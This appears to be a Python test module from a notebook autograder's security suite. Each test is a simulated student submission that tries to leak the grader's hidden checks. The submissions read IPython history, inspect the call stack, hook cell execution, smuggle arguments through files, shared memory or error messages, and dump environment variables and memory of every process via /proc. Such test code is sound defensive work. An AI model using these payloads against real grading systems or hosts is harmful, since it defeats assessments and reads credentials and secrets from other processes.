"""Carrying hidden checks, or what only the grader knows, out into the graded notebook."""

from .attack import LOOT, HandIn, attack


@attack(stock="succeeds")
def prints_the_history(student: HandIn) -> None:
    """IPython remembers the source of each cell."""
    student.last(LOOT + "loot(In, _ih, list(get_ipython().history_manager.get_range()))")


@attack(stock="succeeds")
def prints_the_stack(student: HandIn) -> None:
    """The function sees who calls it, and the lines around the call."""
    student.answer(
        LOOT
        + """
import inspect, linecache

def norm(x):
    for frame in inspect.stack():
        loot(linecache.getlines(frame.filename), frame.frame.f_globals)
    return 0.0
"""
    )


@attack(stock="succeeds")
def listens_before_each_cell(student: HandIn) -> None:
    """IPython shows each cell to whoever registers, before it runs."""
    student.first("heard = []\nget_ipython().events.register('pre_run_cell', heard.append)")
    student.last(LOOT + "loot([info.raw_cell for info in heard])")


@attack(stock="succeeds")
def prints_the_arguments(student: HandIn) -> None:
    """What the function is called with is part of the hidden check."""
    student.answer(
        """
        import sys

        def norm(x):
            print(x.tolist())
            print(x.tolist(), file=sys.stderr)
            return 0.0
        """
    )


@attack(stock="succeeds")
def remembers_the_arguments(student: HandIn) -> None:
    """Says nothing while it is watched, and all in the next cell."""
    student.answer(
        """
        seen = []

        def norm(x):
            seen.append(x.tolist())
            return 0.0
        """
    )
    student.last("print(seen)")


@attack(stock="succeeds")
def writes_the_arguments_down(student: HandIn) -> None:
    """To a file, to be read in the next cell."""
    student.answer(
        """
        import tempfile
        places = [".", tempfile.gettempdir(), "/dev/shm"]

        def norm(x):
            for place in places:
                with open(f"{place}/seen.txt", "a") as file:
                    print(x.tolist(), file=file)
            return 0.0
        """
    )
    student.last(
        """
        import os
        for place in places:
            if os.path.exists(f"{place}/seen.txt"):
                print(open(f"{place}/seen.txt").read())
        """
    )


@attack(stock="succeeds")
def whispers_to_a_thread(student: HandIn) -> None:
    """A process and a thread from before the checks hear of the arguments, and pass them on."""
    student.answer(
        """
        import mmap, os, threading, time
        shared = mmap.mmap(-1, 4096)
        receiver, sender = os.pipe()

        def norm(x):
            shared.write(str(x.tolist()).encode())
            os.write(sender, str(x.tolist()).encode())
            return 0.0
        """
    )
    student.last(
        """
        os.set_blocking(receiver, False)
        print(shared[:4096].strip(b"\\0").decode())
        print(os.read(receiver, 4096).decode())
        """
    )


@attack(stock="gives up")
def signs_with_the_arguments(student: HandIn) -> None:
    """What breaks the connection may be quoted as the reason why the grading ended."""
    student.answer("seen = []\n\ndef norm(x):\n    seen.append(x.tolist())\n    return 0.0")
    student.last(
        """
        get_ipython().kernel.session.sign = lambda message: str(seen).encode()
        print("This is signed by somebody else.")
        """
    )


@attack(stock="succeeds")
def tells_the_arguments_to_a_visible_check(student: HandIn) -> None:
    """The check whose message it may read is moved behind the one whose message it may not."""
    student.move_last("norm-of-the-sample")
    student.answer(
        """
        seen = []

        def norm(x):
            seen.append(x.tolist())
            raise ValueError(seen)
        """
    )


@attack(stock="succeeds", due=2)
def answers_a_visible_check_with_the_arguments(student: HandIn) -> None:
    """NumPy's message of the check that is moved behind quotes what the function returns."""
    student.move_last("square-of-three")
    student.answer(
        """
        seen = []

        def norm(x):
            seen.extend(x.tolist())
            return 0.0

        def square(x):
            return np.array(seen[-3:-1])
        """
    )


@attack(stock="succeeds")
def prints_the_environment(student: HandIn) -> None:
    """Of its own process and of every other that it may look into."""
    student.last(
        LOOT
        + """
import os

loot(os.environ)
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        loot(open(f"/proc/{number}/environ", "rb").read())
    except OSError:
        pass
"""
    )


@attack(stock="succeeds")
def searches_memory(student: HandIn) -> None:
    """Its own process, which was somebody else's before, and every other."""
    student.last(
        LOOT
        + """
import os

for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        memory = open(f"/proc/{number}/mem", "rb", 0)
        maps = open(f"/proc/{number}/maps").read().splitlines()
    except OSError:
        continue
    for line in maps:
        area, rights, *_ = line.split()
        start, end = (int(x, 16) for x in area.split("-"))
        if rights.startswith("rw") and end - start < 2**28:
            try:
                memory.seek(start)
                loot(memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                pass
"""
    )
